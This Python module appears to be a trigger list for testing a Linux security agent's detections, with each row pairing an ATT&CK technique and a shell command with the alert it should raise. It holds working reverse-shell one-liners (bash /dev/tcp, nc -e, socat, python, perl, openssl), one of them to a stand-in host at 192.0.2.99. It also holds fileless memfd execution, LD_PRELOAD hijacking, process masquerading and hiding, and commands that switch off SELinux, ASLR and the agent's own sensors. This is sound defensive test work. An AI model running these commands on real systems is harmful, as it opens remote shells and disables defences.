# SPDX-License-Identifier: GPL-3.0-or-later
"""What runs: programs from odd places, shells on the network, sockets, mounts, the kernel's settings.  Rows as in
triggers_persist.py."""
import shlex

V, R, P = "process.volatile-exec", "process.remote-shell", "process.pretends"
LISTENER = "socat TCP-LISTEN:%d,reuseaddr,fork SYSTEM:sleep\\ 30 > /dev/null 2>&1 & sleep 0.3; "


def later(command, seconds=3):
    """In the background, for so long."""
    return "timeout %d sh -c %s < /dev/null > /dev/null 2>&1 & sleep 0.3" % (seconds, shlex.quote(command))


def bash(command, seconds=3):
    return "timeout %d bash -c %s < /dev/null > /dev/null 2>&1 & sleep 0.3" % (seconds, shlex.quote(command))


def python(code, seconds=20):
    return "timeout %d python3 -c %s < /dev/null > /dev/null 2>&1 & sleep 0.3" % (seconds, shlex.quote(code))


def script(path, text, interpreter="/bin/sh", run=None):
    """A script at PATH, a word of the shell's, which is run by its first line."""
    return "f=%s; printf '#!%s\\n%s\\n' > $f; chmod 755 $f; %s" % (path, interpreter, text, run or "$f")


MEMFD = ("import os,ctypes; fd=os.memfd_create('%s'); os.write(fd,open('/bin/sleep','rb').read()); "
         "os.execv('/proc/self/fd/%%d' %% fd,['%s','2'])")
SOCKET = "import socket,subprocess,os,time; s=socket.create_connection(('127.0.0.1',%d)); "
TRIGGERS = [
    # -- from where
    ("T1059", "program in /tmp", "cp /bin/sleep /tmp/a1; /tmp/a1 0.1", V, "/tmp/a1"),
    ("T1059", "program in /var/tmp", "cp /bin/sleep /var/tmp/a2; /var/tmp/a2 0.1", V, "/var/tmp/a2"),
    ("T1059", "program in /dev/shm", "cp /bin/sleep /dev/shm/a3; /dev/shm/a3 0.1", V, "/dev/shm/a3"),
    ("T1564.001", "program in a hidden folder", "mkdir /tmp/.a4; cp /bin/sleep /tmp/.a4/x; /tmp/.a4/x 0.1", V, "/tmp/.a4"),
    ("T1059.004", "script in /tmp", "printf '#!/bin/sh\\nsleep 0.2\\n' > /tmp/a5.sh; chmod 755 /tmp/a5.sh; /tmp/a5.sh", V, "a5.sh"),
    ("T1059.004", "script in /tmp, by sh", "echo 'sleep 0.2' > /tmp/a6; sh /tmp/a6", V, "/tmp/a6"),
    ("T1059.006", "script in /tmp, by python", "echo 'import time; time.sleep(0.2)' > /tmp/a7.py; python3 /tmp/a7.py", V, "a7.py"),
    ("T1059", "script in /dev/shm, by perl", "echo 'sleep 1' > /dev/shm/a8.pl; perl /dev/shm/a8.pl", V, "a8.pl"),
    ("T1059", "very short program in /tmp", "cp /bin/true /tmp/a9; /tmp/a9", V, "/tmp/a9"),
    ("T1059", "program in /run/user", "mkdir -p /run/user/1000; cp /bin/sleep /run/user/1000/b1; /run/user/1000/b1 0.1", V, "b1"),
    ("T1059", "program in /var/log", "cp /bin/sleep /var/log/b2; /var/log/b2 0.1; rm /var/log/b2", V, "b2"),
    ("T1059", "program by a user in /tmp", "cp /bin/sleep /tmp/b3; setpriv --reuid 1000 --regid 1000 --clear-groups /tmp/b3 0.1", V, "b3"),
    ("T1505.003", "program of the web server", "mkdir -p /var/www/html/u; cp /bin/sleep /var/www/html/u/b4; chown -R www-data /var/www/html/u; "
     "setpriv --reuid 33 --regid 33 --clear-groups /var/www/html/u/b4 0.2", V, "b4"),
    ("T1059", "through the loader", "cp /bin/sleep /tmp/b5; chmod 644 /tmp/b5; /lib64/ld-linux-x86-64.so.2 /tmp/b5 0.3", V, "b5"),
    ("T1070.004", "file gone while it runs", "cp /bin/sleep /opt/b7; /opt/b7 2 & rm /opt/b7", "process.deleted-exec", "b7"),
    ("T1070.004", "file in /tmp gone while it runs", "cp /bin/sleep /tmp/b8; /tmp/b8 2 & rm /tmp/b8", "process.deleted-exec|" + V, "b8"),
    ("T1620", "from memory", python(MEMFD % ("c1", "c1")), "process.memory-exec", "c1"),
    ("T1620", "from memory, as a kernel thread", python(MEMFD % ("c2", "[kworker/0:1]")), "process.memory-exec", "c2"),
    ("T1620", "from memory without a name", python(MEMFD % ("", "x")), "process.memory-exec", "memfd"),
    ("T1036.004", "kernel thread by its arguments", bash("exec -a '[kworker/u8:3]' sleep 2"), P, "kworker"),
    ("T1036.004", "kernel thread by its name", python("import ctypes,time; ctypes.CDLL(None).prctl(15,b'kswapd0',0,0,0); time.sleep(25)", 30), P, "kswapd0"),
    ("T1036.005", "daemon elsewhere", "cp /bin/sleep /srv/sshd; /srv/sshd 0.5", P, "/srv/sshd"),
    ("T1036.005", "daemon's arguments", "cp /bin/sleep /srv/tool2; " + bash("exec -a /usr/sbin/sshd /srv/tool2 1"), P, "tool2"),
    ("T1036.005", "daemon's name in /tmp", "cp /bin/sleep /tmp/systemd-journald; /tmp/systemd-journald 0.3", P + "|" + V, "systemd-journald"),
    # -- names that deceive a person, hidden ones
    ("T1036.006", "blank behind a name", "cp /bin/true '/home/ann/passwords.txt '; '/home/ann/passwords.txt '", P, "ends with a blank"),
    ("T1036.006", "dot behind a name", "cp /bin/sleep /opt/m1.; /opt/m1. 0.2", P, "ends with a dot"),
    ("T1036.002", "direction of writing turned", "f=$(printf '/srv/annex\\342\\200\\256gnp.m2'); cp /bin/true $f; $f", P, "U+202E"),
    ("T1036.002", "unseen character in a script's name", script("$(printf '/srv/m3\\342\\200\\213')", "sleep 0.2"), P, "U+200B"),
    ("T1036", "line end in a name", "f=$(printf '/srv/line4\\nx'); cp /bin/true \"$f\"; \"$f\"", P, "U+000A"),
    ("T1036.008", "program called like a picture", "cp /bin/true /var/www/html/m5.png; /var/www/html/m5.png", P, "/var/www/html/m5.png"),
    ("T1036.008", "script called like a picture", script("/var/www/html/m6.jpg", "sleep 0.2"), P, "/var/www/html/m6.jpg"),
    ("T1036.008", "short script called like a document", script("/srv/m7.pdf", ":"), P, "/srv/m7.pdf"),
    ("T1036.008", "script by env called like a log", script("/srv/m8.log", "import time; time.sleep(0.2)", "/usr/bin/env python3"), P, "/srv/m8.log"),
    ("T1036.007", "two endings", "cp /bin/true /home/ann/m9.pdf.bin; /home/ann/m9.pdf.bin", P, "m9.pdf.bin"),
    ("T1036.007", "script with two endings", script("/home/ann/n1.pdf.sh", "sleep 0.2"), P, "n1.pdf.sh"),
    ("T1564.001", "hidden program in /usr/lib", "cp /bin/true /usr/lib/.relocq; /usr/lib/.relocq", V, "/usr/lib/.relocq"),
    ("T1564.001", "hidden folder in /usr/lib", "mkdir /usr/lib/.n2; cp /bin/true /usr/lib/.n2/agent; /usr/lib/.n2/agent", V, "/usr/lib/.n2/agent"),
    ("T1564.001", "hidden folder in the root folder", "mkdir /.n3; cp /bin/true /.n3/agent; /.n3/agent", V, "/.n3/agent"),
    ("T1564.001", "hidden script in /etc, from there", script("/etc/.n4", "sleep 0.2", run="cd /etc; ./.n4"), V, "/etc/.n4"),
    ("T1564.001", "hidden folder in /var by a user", "mkdir /var/lib/.n5; cp /bin/true /var/lib/.n5/x; setpriv --reuid 1000 --regid 1000 --clear-groups /var/lib/.n5/x",
     V, "/var/lib/.n5/x"),
    ("T1574.006", "LD_PRELOAD from /tmp", later("LD_PRELOAD=/tmp/c3.so sleep 2"), "process.preload|loader.preload", "c3.so"),
    ("T1574.006", "LD_PRELOAD for a service", "cp /bin/sleep /srv/c4; LD_PRELOAD=/dev/shm/c4.so /srv/c4 2 2>/dev/null & sleep 0.2",
     "process.preload|loader.preload", "c4.so"),
    ("T1574.006", "LD_AUDIT", later("LD_AUDIT=/tmp/c5.so sleep 2"), "process.preload|loader.preload", "c5.so"),
    ("T1574.006", "LD_LIBRARY_PATH in /tmp", later("LD_LIBRARY_PATH=/tmp/c6 sleep 2"), "process.preload|loader.preload", "c6"),
    # -- shells on the network
    ("T1059.004", "bash and /dev/tcp", LISTENER % 4501 + bash("bash -i >& /dev/tcp/127.0.0.1/4501 0>&1"), R, "4501"),
    ("T1059.004", "bash and /dev/tcp by a descriptor", LISTENER % 4502 + bash("exec 5<>/dev/tcp/127.0.0.1/4502; bash <&5 >&5 2>&5"), R, "4502"),
    ("T1059.004", "sh by a descriptor", LISTENER % 4503 + bash("0<&196;exec 196<>/dev/tcp/127.0.0.1/4503; sh <&196 >&196 2>&196"), R, "4503"),
    ("T1059.004", "lines read and run", LISTENER % 4504 + bash("exec 5<>/dev/tcp/127.0.0.1/4504; while read -r l <&5; do $l >&5 2>&5; done"), R, "4504"),
    ("T1059.004", "nc -e", LISTENER % 4505 + later("nc.traditional -e /bin/sh 127.0.0.1 4505"), R, "4505"),
    ("T1059.004", "nc and a fifo", LISTENER % 4506 + later("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4506 > /tmp/f"), R, "4506|nc"),
    ("T1059.004", "nc listens with a shell", later("nc.traditional -l -p 4507 -e /bin/sh") + "; sleep 0.5; (sleep 2 | nc.traditional 127.0.0.1 4507) & sleep 0.2",
     R + "|net.listener", "4507|nc.traditional|127.0.0.1"),
    ("T1059.004", "socat with a shell", LISTENER % 4508 + later("socat TCP:127.0.0.1:4508 EXEC:/bin/sh"), R, "4508|socat"),
    ("T1059.004", "socat with a terminal", LISTENER % 4509 + later("socat TCP:127.0.0.1:4509 EXEC:'bash -li',pty,stderr,setsid,sigint,sane"), R, "4509|socat"),
    ("T1059.004", "socat listens with a shell", later("socat TCP-LISTEN:4510,reuseaddr EXEC:/bin/bash") + "; sleep 0.5; (sleep 2 | socat - TCP:127.0.0.1:4510) & sleep 0.2",
     R + "|net.listener", "4510|socat"),
    ("T1059.006", "python: dup2", LISTENER % 4511 + python(SOCKET % 4511 + "[os.dup2(s.fileno(),i) for i in range(3)]; subprocess.call(['/bin/sh','-i'])", 3), R, "4511"),
    ("T1059.006", "python: pty", LISTENER % 4512 + python(SOCKET % 4512 + "[os.dup2(s.fileno(),i) for i in range(3)]; import pty; pty.spawn('/bin/bash')", 3), R, "4512|python"),
    ("T1059.006", "python: each command by itself", LISTENER % 4513 + python(SOCKET % 4513 + "p=subprocess.Popen(['/bin/sh','-i'],stdin=subprocess.PIPE,"
     "stdout=subprocess.PIPE); time.sleep(2)", 3), R, "4513|python"),
    ("T1059", "perl", LISTENER % 4514 + later("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4514,"
     "inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'"), R, "4514"),
    ("T1573", "openssl", LISTENER % 4515 + later("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:4515 > /tmp/s"), R, "openssl"),
    ("T1059.004", "busybox nc", LISTENER % 4516 + later("busybox nc 127.0.0.1 4516 -e /bin/sh"), R, "4516"),
    ("T1059.004", "telnet-like pipe", LISTENER % 4517 + later("mkfifo /tmp/t; nc 127.0.0.1 4517 < /tmp/t | /bin/bash > /tmp/t 2>&1"), R, "4517|nc"),
    ("T1059.004", "zsh and its module", LISTENER % 4518 + later("zsh -c 'zmodload zsh/net/tcp && ztcp 127.0.0.1 4518 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"), R, "4518"),
    ("T1059.004", "script and a terminal", LISTENER % 4519 + later("nc.traditional -c 'script -qc /bin/bash /dev/null' 127.0.0.1 4519"), R, "4519|nc"),
    ("T1095", "UDP", "socat UDP-LISTEN:4520,fork SYSTEM:sleep\\ 20 >/dev/null 2>&1 & sleep 0.2; " + bash("sh -i >& /dev/udp/127.0.0.1/4520 0>&1"), R, "4520"),
    ("T1190", "a server starts a shell", "cp $(readlink -f /usr/bin/python3) /usr/local/bin/nginx; PYTHONHOME=/usr setpriv --reuid 33 --regid 33 --clear-groups "
     "/usr/local/bin/nginx -S -c 'import os; os.system(\"sleep 0.3; id\")'", "process.service-shell", "nginx"),
    # -- other processes
    ("T1055.008", "attached", "sleep 60 > /dev/null 2>&1 & p=$!; (timeout 20 strace -p $p > /dev/null 2>&1; kill $p) & sleep 0.2", "process.traced", "strace"),
    ("T1055.008", "attached by a script", python("import ctypes,subprocess,time; p=subprocess.Popen(['setsid','sleep','44']); time.sleep(.3); l=ctypes.CDLL(None);"
     "import os; q=os.fork(); (l.ptrace(16,p.pid,0,0), time.sleep(20), os._exit(0)) if q==0 else os.wait()", 30), "process.traced", "python"),
    ("T1496", "a miner in /tmp", "cp /bin/sleep /tmp/xmrig; /tmp/xmrig 0.5", V, "xmrig"),
    # -- the network
    ("T1571", "listener on all addresses", later("nc.traditional -l -p 4601", 20), "net.listener", "4601"),
    ("T1571", "listener by python", python("import http.server,socketserver; socketserver.TCPServer(('',4602),http.server.SimpleHTTPRequestHandler).serve_forever()"),
     "net.listener", "4602"),
    ("T1571", "listener on loopback", python("import socket,time; s=socket.socket(); s.bind(('127.0.0.1',4603)); s.listen(); time.sleep(20)"), "net.listener", "4603"),
    ("T1571", "listener over IPv6", python("import socket,time; s=socket.socket(10); s.bind(('::',4604)); s.listen(); time.sleep(20)"), "net.listener", "4604"),
    ("T1095", "listener of UDP", python("import socket,time; s=socket.socket(2,2); s.bind(('0.0.0.0',4605)); time.sleep(20)"), "net.listener", "4605"),
    ("T1571", "listener in the high ports", python("import socket,time; s=socket.socket(); s.bind(('0.0.0.0',45606)); s.listen(); time.sleep(20)"), "net.listener", "45606"),
    ("T1571", "listener from /tmp", "cp /usr/bin/socat /tmp/d1; timeout 20 /tmp/d1 TCP-LISTEN:4607 - > /dev/null 2>&1 & sleep 0.3", "net.listener", "4607"),
    ("T1571", "listener for a moment", python("import socket,time; s=socket.socket(); s.bind(('0.0.0.0',4608)); s.listen(); time.sleep(8)", 8), "net.listener", "4608"),
    ("T1095", "raw socket of ICMP", python("import socket,time; s=socket.socket(2,3,1); time.sleep(90)", 90), "net.raw-socket", "python"),
    ("T1040", "packet socket", later("tcpdump -i lo -w /dev/null", 90), "net.raw-socket", "tcpdump"),
    ("T1040", "packet socket for a moment", "cp $(readlink -f /usr/bin/python3) /opt/d2; PYTHONHOME=/usr timeout 4 /opt/d2 -S -c 'import socket,time; s=socket.socket(17,3,0x300); time.sleep(4)' & "
     "sleep 0.1", "net.raw-socket", "d2"),
    ("T1040", "all frames", "ip link set b0 promisc on", "net.promiscuous", "b0"),
    ("T1572", "tunnel", "ip tuntap add dev tun7 mode tun", "net.device", "tun7"),
    ("T1572", "another tunnel", "ip tuntap add dev tap8 mode tap", "net.device", "tap8"),
    ("T1562.004", "route thrown away", "ip route add blackhole 203.0.113.77/32", "net.route", "203.0.113.77"),
    ("T1562.004", "IPv6 route refused", "ip -6 route add unreachable 2001:db8:77::/48", "net.route", "2001:db8:77::"),
    ("T1557", "host route", "ip route add 203.0.113.78/32 via 192.0.2.99", "net.route", "192.0.2.99"),
    ("T1562.004", "route to the host itself", "ip route add local 203.0.113.79 dev lo", "net.route", "203.0.113.79"),
    ("T1090", "policy rule", "ip rule add pref 100 from 10.0.0.0/8 lookup 77", "net.route", "rule 100"),
    ("T1562.004", "policy rule that refuses", "ip -6 rule add pref 101 to 2001:db8::7 prohibit", "net.route", "IPv6 rule 101"),
    ("T1557", "address on the loopback device", "ip addr add 203.0.113.80/32 dev lo", "net.route", "203.0.113.80"),
    ("T1071", "a shell talks out", bash("exec 3<>/dev/tcp/192.0.2.99/4444", 60), "net.peer", "4444"),
    ("T1090", "forwarding", "echo 1 > /proc/sys/net/ipv4/ip_forward", "kernel.setting", "ip_forward"),
    # -- mounts and the kernel
    ("T1564.013", "bind over a file", "echo x > /tmp/e1; mount --bind /tmp/e1 /etc/covered", "mount.over", "/etc/covered"),
    ("T1564.013", "bind over a program", "mount --bind /bin/true /usr/bin/last", "mount.over", "/usr/bin/last"),
    ("T1564.013", "tmpfs over a folder", "mount -t tmpfs x /var/log/nginx", "mount.over|mount.new", "/var/log/nginx"),
    ("T1564.013", "process hidden", "sleep 100 > /dev/null 2>&1 & mount -t tmpfs none /proc/$!", "mount.over", "/proc/"),
    ("T1564.013", "overlay", "mkdir -p /work/o/u /work/o/w; mount -t tmpfs o /work/o; mkdir -p /work/o/u /work/o/w; mount -t overlay o -o lowerdir=/usr/local,upperdir=/work/o/u,workdir=/work/o/w "
     "/usr/local", "mount.over", "/usr/local"),
    ("T1564", "tmpfs for a hidden store", "mkdir -p /opt/.h; mount -t tmpfs x /opt/.h", "mount.new|mount.over", "/opt/.h"),
    ("T1562.001", "noexec taken away", "mount -o remount,nosuid,exec /var/tmp2", "mount.weaker", "/var/tmp2"),
    ("T1562.001", "hidepid's mount gone", "umount -l /usr/bin/last", "mount.gone", "/usr/bin/last"),
    ("T1546", "core dumps to a program", "echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern", "kernel.helper", "core_pattern"),
    ("T1546", "another program switches off", "echo /tmp/m > /proc/sys/kernel/poweroff_cmd", "kernel.helper", "poweroff_cmd"),
    ("T1562.001", "no random addresses", "sysctl -q -w kernel.randomize_va_space=0", "kernel.setting", "randomize_va_space"),
    ("T1562.001", "kernel's addresses shown", "echo 0 > /proc/sys/kernel/kptr_restrict", "kernel.setting", "kptr_restrict"),
    ("T1562.001", "BPF for everybody", "echo 0 > /proc/sys/kernel/unprivileged_bpf_disabled", "kernel.setting", "unprivileged_bpf"),
    ("T1546", "file format", "printf 'enabled\\ninterpreter /tmp/i\\nflags: C\\n' > /proc/sys/fs/binfmt_misc/evil", "kernel.binfmt", "evil"),
    ("T1562.001", "SELinux permissive", "echo 0 > /sys/fs/selinux/enforce", "kernel.lsm-changed", "SELinux|permissive|selinux"),
    ("T1562.001", "AppArmor complains", "echo '/usr/bin/man (complain)' > /sys/kernel/security/apparmor/profiles", "kernel.lsm-changed", "man"),
    ("T1547.006", "kernel tainted", "echo 12288 > /proc/sys/kernel/tainted", "kernel.tainted", "taint"),
    # -- the agent itself
    ("T1562.001", "the agent's state written", "cp /bin/true /var/lib/cordon-agent/sensors/x1", "agent.self-changed", "x1"),
    ("T1562.001", "sensors traced", "timeout 20 python3 -c 'import ctypes,sys,time; l=ctypes.CDLL(None); l.ptrace(0x4206,int(sys.argv[1]),0,0); "
     "time.sleep(4)' $(pgrep -x agent-sensors) < /dev/null > /dev/null 2>&1 & sleep 0.3", "agent.traced", "agent-sensors|sensors"),
]
